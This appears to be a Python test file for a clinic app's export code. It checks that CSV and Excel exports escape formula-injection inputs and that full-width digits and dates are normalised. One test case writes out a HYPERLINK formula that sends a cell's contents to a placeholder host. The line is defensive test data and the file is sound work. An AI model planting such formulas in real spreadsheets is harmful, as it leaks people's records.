"""What an export writes can never run as a formula (issue 11, break 5), and the one digit normalisation every
number field goes through (break 15)."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from clinic_app.cells import FORMULA_STARTS, csv_field, from_csv_field
from clinic_app.digits import ascii_digits, parse_date, whole_number
from clinic_app.errors import ValidationError
from clinic_app.transfer import csv_text, write_xlsx

# Text as it may come by sync from any device: anything openpyxl can store (no control characters but tab and
# line breaks), with the formula starts made likely.
xml_text = st.text(
    st.characters(
        blacklist_categories=("Cs",), blacklist_characters=[chr(c) for c in range(32) if c not in (9, 10, 13)]
    ),
    max_size=30,
)
cell_text = st.one_of(
    st.tuples(st.sampled_from([*FORMULA_STARTS, "=HYPERLINK(", "=1+", "'"]), xml_text).map("".join), xml_text
)
cell = st.one_of(cell_text, st.none(), st.integers(-(10**12), 10**12), st.floats(-1e9, 1e9, allow_nan=False))


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.lists(cell, min_size=3, max_size=3), min_size=1, max_size=6))
def test_an_xlsx_export_has_no_formula_cell_and_keeps_every_value(
    tmp_path: Path, rows: list[list[object]]
) -> None:
    target = tmp_path / "export.xlsx"
    write_xlsx(target, "居民", ["备注", "村", "户号"], rows)
    sheet = load_workbook(target).worksheets[0]
    cells = list(sheet.iter_rows(min_row=2, max_row=len(rows) + 1, max_col=3))
    assert all(c.data_type != "f" for row in cells for c in row), [c.value for row in cells for c in row]
    for row, written in zip(rows, cells, strict=True):
        for value, c in zip(row, written, strict=True):
            expected = None if value == "" else value
            if isinstance(value, str):
                assert c.data_type in ("s", "inlineStr"), "a text cell"
                expected = value.replace("\r\n", "\n").replace("\r", "\n") or None  # XML keeps no CR
            if isinstance(value, float):
                assert c.value == pytest.approx(value)
            else:
                assert c.value == expected, "text is kept as typed, numbers stay numbers"


@given(st.lists(st.lists(cell, min_size=3, max_size=3), min_size=1, max_size=6))
def test_a_csv_export_escapes_every_field_a_spreadsheet_would_run_and_reads_back(
    rows: list[list[object]],
) -> None:
    read = list(csv.reader(io.StringIO(csv_text(["备注", "村", "户号"], rows), newline="")))
    assert len(read) == len(rows) + 1
    for row, fields in zip(rows, read[1:], strict=True):
        for value, field in zip(row, fields, strict=True):
            if isinstance(value, str):
                assert not field.startswith(FORMULA_STARTS), field
                assert field == ("'" + value if value.startswith(FORMULA_STARTS) else value)
                assert from_csv_field(field) == value or value.startswith("'")
            elif isinstance(value, int):
                assert field == str(value), "a negative number in a numeric column stays a number"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://x/?"&D2,"点")', '\'=HYPERLINK("http://x/?"&D2,"点")'),
        ("+86 138", "'+86 138"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("张三", "张三"),
        ("13800138000", "13800138000"),
        (-5, -5),
        (3.5, 3.5),
    ],
)
def test_the_owasp_rule(value: object, written: object) -> None:
    assert csv_field(value) == written


# -- digits -----------------------------------------------------------------------------------------------
FULL = {ord("0") + i: 0xFF10 + i for i in range(10)}


@given(st.integers(-(10**15), 10**15))
def test_a_whole_number_in_full_width_digits_reads_as_the_number(n: int) -> None:
    typed = str(n).translate(FULL).replace("-", "－")
    assert whole_number("year", typed) == n
    assert whole_number("year", f"　{typed} ") == n  # an ideographic space around it too


@pytest.mark.parametrize("typed", ["٢٠٢٦", "२०२६", "2026年", "20.5", "", "1_000", "二〇二六"])
def test_other_text_is_refused_naming_the_field(typed: str) -> None:
    with pytest.raises(ValidationError) as err:
        whole_number("period", typed)
    assert err.value.field == "period" and err.value.rule in ("digits", "integer")


@given(st.text())
def test_ascii_digits_leaves_no_digit_but_0_to_9(text: str) -> None:
    try:
        normal = ascii_digits("phone", text)
    except ValidationError as exc:
        assert exc.field == "phone" and exc.rule == "digits"
    else:
        assert all(c.isascii() for c in normal if c.isdigit())


@given(st.dates())
def test_a_day_typed_in_full_width_digits_reads_as_that_day(day: dt.date) -> None:
    typed = day.isoformat().translate(FULL).replace("-", "－")
    assert parse_date("visit_date", typed) == day
    assert parse_date("visit_date", f" {day.isoformat()}　") == day


@pytest.mark.parametrize("typed", ["2026-13-01", "2026-02-30", "2026/12/01", "20261201x", "", "٢٠٢٦-01-01"])
def test_a_day_that_is_not_one_is_refused_naming_the_field_and_what_was_typed(typed: str) -> None:
    with pytest.raises(ValidationError) as err:
        parse_date("visit_date", typed)
    assert err.value.field == "visit_date" and err.value.rule in ("date_format", "digits")
    if err.value.rule == "date_format":
        assert repr(typed.strip()) in str(err.value)
